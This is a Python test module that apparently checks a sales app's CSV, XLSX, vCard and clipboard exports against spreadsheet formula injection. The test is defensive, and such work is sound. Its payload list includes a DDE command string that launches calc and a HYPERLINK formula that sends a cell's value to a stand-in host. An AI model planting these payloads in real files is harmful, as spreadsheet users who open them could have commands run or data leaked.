"""G21: whatever a name or a note holds, no export and no copied list makes a spreadsheet calculate it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterable
from itertools import product
from pathlib import Path

from salesdesk.app.write_out import write, write_everything
from salesdesk.base.formula_guard import as_line, disarmed, rearmed
from salesdesk.exchange.reading import open_table
from salesdesk.parties.commands import add_party, edit_party
from salesdesk.sales.product_commands import add_product
from salesdesk.store.database import Store
from tests.faults.campaign import Campaign, Outcome, at

_BEGIN = (
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\u3000",
    ";",
    "a;",
    "a\t",
    "a\n",
    'a";"',
    "a;\u00a0",
    "a|",
    '"',
    "',",
)
_SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_ACTS = ("cmd|' /C calc'!A0", "SUM(1+1)", 'HYPERLINK("http://x.test?"&A1,"Click")')
PAYLOADS = tuple("".join(parts) for parts in product(_BEGIN, _SIGNS, _ACTS))
HARMLESS = (
    "+84 912 345 678", "+84912345678", "-12.5", "-1.234,5", "+12 %", "a=b", "Lan - the tall one", "x@y.vn",
    "first\n- likes red\n- likes blue", "5; -3 degrees", "'tis", "Nguyễn",
)  # fmt: skip
_CARD_LINE = re.compile(
    r"(BEGIN|VERSION|UID|KIND|FN|TEL|EMAIL|ADR|ORG|TITLE|NOTE|URL|BDAY|CATEGORIES|END)[;:]"
)
_HARMLESS_CELL = re.compile(r"[+-]?\d[\d.,]*(?:\s?[%₫€$£])?|\+\d[\d .]*\d")


def cases(which: str, _seed: int) -> Iterable[str]:
    """All payloads through every way out; the harmless ones must stay as they are."""
    kinds = ("csv", "xlsx", "vcf", "everything", "clipboard")
    return [*kinds, *(f"harmless {n}" for n in range(len(HARMLESS)))] if which in ("C", "N") else ()


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet could calculate a cell: a strict reading of OWASP's list."""
    bare = cell.replace("\x00", "").lstrip(" \u00a0\u3000\ufeff\u200b\t\r\n")
    if not bare.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")):
        return False
    if bare[0] in "=@＝＠":
        return True
    return not _HARMLESS_CELL.fullmatch(cell.strip()) and bool(re.search(r"[(|!]", bare))


def formulas_in(text: str, separators: str = ",;\t|") -> list[str]:
    """The cells of a text file that could be calculated, however a program cuts the lines into cells."""
    found = []
    for separator in separators:
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            found += [f"{cell!r} after {separator!r}" for cell in row if is_formula(cell)]
    return found


def _in_workbook(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    return [
        tag.decode()
        for sheet in sheets
        for tag in (b"<f>", b"<f ", b"<hyperlink", b"<ddeLink")
        if tag in sheet
    ]


class _Shop:
    """A book where every payload is somebody's name, note and address, and a product's name."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        shop = {"shop_name": "=1+1", "currency": "VND", "language": "en", "owner": "@owner"}
        self.store = Store.create(folder / "shop.salesdesk", **shop)
        with self.store.changing("Add them"):
            for number, payload in enumerate(PAYLOADS):
                clean = payload.replace("\x00", "")
                one = add_party(self.store, name=f"{clean} {number}", phone="+84 912 345 678")
                edit_party(self.store, one, notes=payload, address=payload, tags=payload)
            for number, payload in enumerate(PAYLOADS[::9]):
                add_product(self.store, name=f"{payload.strip()} {number}", price=1_000)

    def try_one(self, case: str) -> Outcome:
        """One way out for all payloads."""
        kind, _space, number = case.partition(" ")
        if kind == "harmless":
            text = HARMLESS[int(number)]
            wrong = "" if disarmed(text) == text == rearmed(text) else f"became {disarmed(text)!r}"
        elif kind == "clipboard":
            wrong = "; ".join(self._on_the_clipboard())
        elif kind == "everything":
            folder = write_everything(self.store, self.folder)
            wrong = "; ".join(words for path in folder.rglob("*.*") for words in self._in_file(path))
        else:
            path = self.folder / f"list.{kind}"
            write(self.store, "parties", path)
            wrong = "; ".join(self._in_file(path)) or self._phones(path)
        return Outcome(case, hit=True, wrong=wrong[:300])

    @staticmethod
    def _in_file(path: Path) -> list[str]:
        if path.suffix == ".xlsx":
            return _in_workbook(path)
        text = path.read_text("utf-8-sig")
        if path.suffix == ".vcf":
            lines = text.replace("\r\n ", "").split("\r\n")
            return [f"a line of its own: {one[:40]!r}" for one in lines if one and not _CARD_LINE.match(one)]
        wrong = [] if path.read_bytes().startswith(b"\xef\xbb\xbf") else ["no mark of UTF-8"]
        return wrong + formulas_in(text)

    @staticmethod
    def _phones(path: Path) -> str:
        table = open_table(path)
        at = next(n for n, column in enumerate(table.columns) if column == "Phone")
        phones = {str(row.cells[at]) for row in table.rows()}
        return "" if phones == {"+84 912 345 678"} else f"phones became {sorted(phones)[:3]}"

    @staticmethod
    def _on_the_clipboard() -> list[str]:
        lines = [as_line(("Lan", payload, "+84 912 345 678")) for payload in PAYLOADS]
        uneven = [line for line in lines if line.count("\t") != 2 or "\n" in line or "\r" in line]
        return [*formulas_in("\n".join(lines), "\t;"), *uneven]


CAMPAIGNS = (Campaign("G21", f"{len(PAYLOADS)} formulas through every export", cases, at(_Shop)),)
